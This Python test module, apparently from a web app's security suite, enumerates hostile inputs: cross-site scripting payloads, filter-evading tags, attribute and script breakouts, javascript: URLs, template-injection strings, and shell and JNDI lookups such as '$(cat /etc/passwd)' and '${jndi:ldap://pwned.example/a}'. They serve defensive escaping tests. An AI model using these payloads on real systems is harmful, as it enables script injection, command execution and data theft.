# ruff: noqa: E501 - the lines are data
"""Script: every way in which words of an article could become code in a page, in every field that a page shows."""

from __future__ import annotations

import html
import json
from collections.abc import Iterator

from tests.hostile.cases import ELSEWHERE, Case, page, row, said, spoken, told

RUN = "window.__pwned=1"
# Markup that runs as soon as it is a page's; how.
MARKUP = {
    "script": ("a plain script", f"<script>{RUN}</script>"),
    "script-src": ("a script from elsewhere", f"<script src={ELSEWHERE}/x.js></script>"),
    "script-module": ("a module, which nonces are often forgotten for", f"<script type=module>{RUN}</script>"),
    "script-odd": ("a tag with slashes and a line break, which filters by pattern miss", f"<ScRiPt/x\n>{RUN}</sCrIpT\n>"),
    "script-nested": ("a tag that is whole once a filter has taken one out", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    "script-open": ("a script that nobody closes", f"<script>{RUN}//"),
    "img": ("an image that fails", f'<img src=x onerror="{RUN}">'),
    "img-elsewhere": ("an image that tells who reads", f"<img src={ELSEWHERE}/pixel.gif>"),
    "svg": ("a picture that loads", f"<svg/onload={RUN}>"),
    "svg-animate": ("an animation that begins", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"),
    "svg-use": ("a picture that takes its parts from elsewhere", f"<svg><use href={ELSEWHERE}/x.svg#a /></svg>"),
    "svg-foreign": ("a page within a picture", f"<svg><foreignObject><iframe onload={RUN}></foreignObject></svg>"),
    "math": ("a namespace that changes what is text", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>"),
    "iframe": ("a frame with its own page", f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>'),
    "iframe-script": ("a frame whose address is script", f'<iframe src="javascript:parent.{RUN[7:]}"></iframe>'),
    "object": ("an object whose data are a page", f"<object data='data:text/html,<script>{RUN}</script>'></object>"),
    "embed": ("an embedded file from elsewhere", f"<embed src={ELSEWHERE}/x.swf>"),
    "details": ("an element that opens by itself", f"<details open ontoggle={RUN}>"),
    "focus": ("a field that takes the focus by itself", f"<input autofocus onfocus={RUN}>"),
    "marquee": ("an old element with an event of its own", f"<marquee onstart={RUN}>x</marquee>"),
    "media": ("a film that cannot be loaded", f"<video><source onerror={RUN}></video>"),
    "style": ("a style that hides all and asks elsewhere", f"<style>@import '{ELSEWHERE}/x.css';*{{display:none!important}}</style>"),
    "style-attribute": ("a style that lays a picture over the page", f'<p style="position:fixed;inset:0;background:url({ELSEWHERE}/x)">'),
    "style-animation": ("an animation's end as an event", f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>"),
    "link": ("a style sheet from elsewhere", f"<link rel=stylesheet href={ELSEWHERE}/x.css>"),
    "prefetch": ("a hint to load ahead", f"<link rel=prefetch href={ELSEWHERE}/x><link rel=dns-prefetch href={ELSEWHERE}>"),
    "refresh": ("a page that goes elsewhere by itself", f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/">'),
    "policy": ("a policy that forbids the page's own", "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">"),
    "base": ("a base that turns all links round", f"<base href={ELSEWHERE}/>"),
    "form": ("a form that sends what is typed elsewhere", f"</form><form action={ELSEWHERE}/><input name=csrf><button>Weiter</button>"),
    "noscript": ("text that is markup only without script", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
    "template": ("a shadow tree that is built while parsing", f"<template shadowrootmode=open><img src=x onerror={RUN}></template>"),
    "popover": ("an element that is shown over all", f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>"),
    "clobber": ("names that hide what scripts rely on", "<form id=document><input name=cookie><img name=querySelector id=wortlaut></form>"),
}  # fmt: skip
# What ends the place that words stand in.
ENDINGS = {
    "end-attribute": ("a double quote ends an attribute", f'" autofocus onfocus="{RUN}" x="'),
    "end-single": ("a single quote ends an attribute", f"' autofocus onfocus='{RUN}' x='"),
    "end-bare": ("a blank ends an attribute without quotes", f"x onmouseover={RUN} autofocus onfocus={RUN} "),
    "end-title": ("the end of a title, whose text is no markup", f"</title><script>{RUN}</script>"),
    "end-textarea": ("the end of a field for text", f"</textarea><script>{RUN}</script>"),
    "end-option": ("the end of a list of choices", f"</option></select><img src=x onerror={RUN}>"),
    "end-comment": ("the end of a comment", f"--!><img src=x onerror={RUN}><!--"),
    "end-cdata": ("the end of a CDATA section", f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>"),
    "end-json": ("the end of data for machines in a page", f"</script><script>{RUN}</script>"),
    "end-json-comment": ("a comment that a script never leaves", "<!--<script>"),
    "end-svg-text": ("the end of a label in a chart", f"</text></svg><img src=x onerror={RUN}>"),
    "end-entity": ("entities that are markup after one more decoding", f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;"),
}  # fmt: skip
# What is no markup and could still be run by what makes the pages.
TEMPLATES = {
    "jinja": ("the language of our own templates", "{{ 7*191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"),
    "angular": ("templates that run in the browser", "{{constructor.constructor('window.__pwned=1')()}}"),
    "format": ("places that Python's format would fill", "{0.__class__.__init__.__globals__} {settings} {} %(x)s %s%n"),
    "dollar": ("places of JavaScript, shells and loggers", "${window.__pwned=1} $(cat /etc/passwd) `id` ${jndi:ldap://pwned.example/a} #{7*191}"),
    "server": ("tags of other servers", "<?php echo 7*191 ?> <%= 7*191 %> <!--#exec cmd='id' -->"),
}  # fmt: skip
ADDRESSES = {
    "javascript": f"javascript:{RUN}",
    "javascript-disguised": f"\x01JaVa\tScRiPt\n:{RUN}//https://bote.example/",
    "javascript-comment": f"javascript://bote.example/%0A{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "blob": "blob:https://bote.example/1",
    "slashes": "//pwned.example/artikel",
    "quote": f'https://bote.example/"onmouseover="{RUN}" autofocus onfocus="{RUN}',
}


def cases() -> Iterator[Case]:
    """Payloads in the text; then in each field, as tables, pages, pastes and analyses give it."""
    every = {**MARKUP, **ENDINGS, **TEMPLATES}
    for name, (idea, payload) in every.items():
        yield Case(f"text-{name}", f"quoted words are {idea}", "file", f"text-{name}.html", lambda p=payload: told(p))
    yield from _raw()
    yield from _fields()
    for name, address in ADDRESSES.items():
        yield Case(
            f"source-{name}", f"the article's own address is {name}, and the page links to it", "file", f"s-{name}.jsonl",
            lambda a=address, n=name: row(source=a, title=f"Quelle {n}", text=said(f"Quelle {n},")),
        )  # fmt: skip


def _raw() -> Iterator[Case]:
    """Pages that really have it, whose originals are kept and must not be run when they are shown."""
    # what is never closed would hide all that follows
    whole = "".join(payload for name, (_, payload) in MARKUP.items() if name not in ("policy", "script-open"))
    yield Case("page-all", "a page that has all of these as real markup", "file", "all.html", lambda: page(whole))
    yield Case(
        "page-svg", "a picture with script that calls itself a page", "file", "picture.html",
        lambda: f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script><text>{said('Ja,')}</text></svg>".encode(),
    )  # fmt: skip
    yield Case(
        "page-xhtml", "script in XHTML with a prefix of its own", "file", "x.html",
        lambda: page(f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>"),
    )  # fmt: skip


def _fields() -> Iterator[Case]:
    script, attribute, ending = MARKUP["img"][1], ENDINGS["end-attribute"][1], ENDINGS["end-json"][1]
    for number, (payload, how) in enumerate(((script, "markup"), (attribute, "a quote"), (ending, "an end of script"))):
        for name in ("title", "outlet", "published", "language", "id", "source"):
            yield Case(
                f"row-{name}-{number}", f"{how} in the field {name!r} of a table", "file", f"row-{name}-{number}.jsonl",
                lambda n=name, p=payload, k=number: row(**{"text": said(f"{n} {k},"), n: p}),
            )  # fmt: skip
        yield Case(
            f"person-{number}", f"{how} in a person's name and role", "analysis",
            new=lambda p=payload, k=number: spoken(f"Eva {p} Brandt", f"„Namen {k} sind Schall“", title=f"Name {k}"),
        )  # fmt: skip
        yield Case(
            f"paste-{number}", f"{how} in every field of the form", "paste",
            fields={name: f"{payload} {name} {number}" for name in ("title", "outlet", "source")} | {"text": said(payload)},
        )  # fmt: skip
    head = f'<meta property="og:title" content="{html.escape(script)}"><meta property="og:site_name" content="{html.escape(script)}">'
    yield Case(
        "page-og", "markup in what a page says of itself for sharing", "file", "og.html", lambda: page("", head=head)
    )
    posting = {"@type": "NewsArticle", "headline": script, "publisher": {"name": script}, "datePublished": script}
    data = f'<script type="application/ld+json">{json.dumps(posting)}</script>'
    yield Case("page-json-ld", "markup in a page's data for machines", "file", "ld.html", lambda: page("", head=data))
    yield Case(
        "page-title",
        "markup in the title of a page, as entities",
        "file",
        "t.html",
        lambda: page("", title=html.escape(script)),
    )
    yield Case(
        "page-lang",
        "a language that is an attribute's end",
        "file",
        "l.html",
        lambda: page("", language="de&quot; onload=&quot;" + RUN),
    )
    yield Case(
        "file-name",
        "markup in the name of an uploaded file",
        "file",
        "<img src=x onerror=window.__pwned=1>.txt",
        lambda: said("Datei,").encode(),
    )
